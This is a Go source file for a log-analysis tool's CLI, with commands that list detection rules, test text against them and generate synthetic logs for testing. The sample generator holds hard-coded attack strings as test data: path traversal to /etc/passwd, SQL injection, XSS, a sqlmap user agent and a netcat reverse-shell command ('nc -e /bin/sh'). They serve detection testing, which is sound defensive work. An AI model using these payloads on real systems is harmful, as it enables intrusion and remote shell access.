package commands

import (
	"fmt"
	"math/rand"
	"os"
	"sort"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/logsieve/logsieve/pkg/rules"
)

// NewRulesCommand creates the rules command group.
func NewRulesCommand() *cobra.Command {
	cmd := &cobra.Command{
		Use:   "rules",
		Short: "Inspect and exercise the detection rule catalog",
	}

	cmd.AddCommand(newRulesListCommand())
	cmd.AddCommand(newRulesTestCommand())
	cmd.AddCommand(newRulesSampleCommand())

	return cmd
}

func newRulesListCommand() *cobra.Command {
	return &cobra.Command{
		Use:   "list",
		Short: "List all built-in detection rules grouped by category",
		RunE: func(cmd *cobra.Command, args []string) error {
			catalog := rules.DefaultCatalog()
			w := cmd.OutOrStdout()

			categories := catalog.Categories()
			sort.Strings(categories)

			for _, category := range categories {
				fmt.Fprintf(w, "Category: %s\n", strings.ReplaceAll(category, "_", " "))
				for _, rule := range catalog.ByCategory(category) {
					tags := rule.Tags
					if len(tags) > 3 {
						tags = tags[:3]
					}
					fmt.Fprintf(w, "  %-28s [%-8s] %s (%s)\n",
						rule.Name, rule.Severity, rule.Description, strings.Join(tags, ", "))
				}
				fmt.Fprintln(w)
			}
			fmt.Fprintf(w, "%d rules total\n", catalog.Len())
			return nil
		},
	}
}

func newRulesTestCommand() *cobra.Command {
	var verbose bool

	cmd := &cobra.Command{
		Use:   "test <text>",
		Short: "Test the rule catalog against a text string",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			engine := rules.NewEngine(nil, nil)
			detections := engine.AnalyzeLine(args[0], 1, time.Time{})
			w := cmd.OutOrStdout()

			if len(detections) == 0 {
				fmt.Fprintln(w, "No threats detected")
				return nil
			}

			fmt.Fprintf(w, "Detected threats (%d):\n", len(detections))
			for _, d := range detections {
				fmt.Fprintf(w, "  %-28s [%-8s] %s (confidence %.2f)\n",
					d.RuleName, d.Severity, d.Category, d.Confidence)
				if verbose {
					fmt.Fprintf(w, "      matched: %s\n", d.MatchedText)
				}
			}
			ExitCode = 1
			return nil
		},
	}

	cmd.Flags().BoolVarP(&verbose, "verbose", "v", false, "Show matched text")
	return cmd
}

// SampleOptions holds command-line options for the rules sample command.
type SampleOptions struct {
	Output         string
	Count          int
	IncludeAttacks bool
	Seed           int64
}

func newRulesSampleCommand() *cobra.Command {
	opts := &SampleOptions{}

	cmd := &cobra.Command{
		Use:   "sample",
		Short: "Generate a sample log file for testing",
		RunE: func(cmd *cobra.Command, args []string) error {
			data := GenerateSampleLogs(opts.Count, opts.IncludeAttacks, opts.Seed)
			if err := os.WriteFile(opts.Output, data, 0o644); err != nil {
				return fmt.Errorf("writing %s: %w", opts.Output, err)
			}
			fmt.Fprintf(cmd.OutOrStdout(), "Sample log file generated: %s (%d lines)\n",
				opts.Output, opts.Count)
			return nil
		},
	}

	cmd.Flags().StringVarP(&opts.Output, "output", "o", "sample_logs.txt", "Output file name")
	cmd.Flags().IntVarP(&opts.Count, "count", "c", 100, "Number of sample lines to generate")
	cmd.Flags().BoolVar(&opts.IncludeAttacks, "include-attacks", false, "Include sample attack patterns")
	cmd.Flags().Int64Var(&opts.Seed, "seed", 0, "Random seed (0 = time-based)")

	return cmd
}

var sampleIPs = []string{
	"192.168.1.100", "10.0.0.50", "172.16.0.10",
	"203.0.113.42", "198.51.100.25", "93.184.216.34",
}

var normalRequests = []string{
	"GET /index.html HTTP/1.1",
	"GET /about.html HTTP/1.1",
	"POST /login HTTP/1.1",
	"GET /images/logo.png HTTP/1.1",
	"GET /css/style.css HTTP/1.1",
}

var webAttacks = []string{
	"GET /admin/config.php?file=../../../etc/passwd HTTP/1.1",
	"POST /login HTTP/1.1' OR 1=1--",
	"GET /search?q=<script>alert('xss')</script> HTTP/1.1",
	"GET /app?cmd=nc -e /bin/sh 192.168.1.1 4444 HTTP/1.1",
	`GET /wp-admin/ HTTP/1.1" User-Agent: sqlmap/1.0`,
}

var systemAttacks = []string{
	"multiple failed login attempts detected from 203.0.113.42",
	"privilege escalation attempt: sudo su - root",
}

// GenerateSampleLogs builds count lines of synthetic Apache and syslog
// traffic spread over the last 24 hours. With attacks enabled, roughly
// one line in ten carries an attack pattern.
func GenerateSampleLogs(count int, includeAttacks bool, seed int64) []byte {
	if seed == 0 {
		seed = time.Now().UnixNano()
	}
	rng := rand.New(rand.NewSource(seed))

	var b strings.Builder
	base := time.Now().Add(-24 * time.Hour)

	for i := 0; i < count; i++ {
		ts := base.Add(time.Duration(rng.Intn(1440)) * time.Minute)
		ip := sampleIPs[rng.Intn(len(sampleIPs))]

		var line string
		if includeAttacks && rng.Float64() < 0.1 {
			if rng.Float64() < 0.5 {
				request := webAttacks[rng.Intn(len(webAttacks))]
				status := []int{400, 403, 404, 500}[rng.Intn(4)]
				size := 200 + rng.Intn(800)
				line = fmt.Sprintf(`%s - - [%s] "%s" %d %d`,
					ip, ts.Format("02/Jan/2006:15:04:05 -0700"), request, status, size)
			} else {
				attack := systemAttacks[rng.Intn(len(systemAttacks))]
				line = fmt.Sprintf("%s server security: %s", ts.Format("Jan _2 15:04:05"), attack)
			}
		} else {
			request := normalRequests[rng.Intn(len(normalRequests))]
			status := []int{200, 304, 301, 404}[rng.Intn(4)]
			size := 500 + rng.Intn(4500)
			line = fmt.Sprintf(`%s - - [%s] "%s" %d %d`,
				ip, ts.Format("02/Jan/2006:15:04:05 -0700"), request, status, size)
		}
		b.WriteString(line)
		b.WriteByte('\n')
	}
	return []byte(b.String())
}
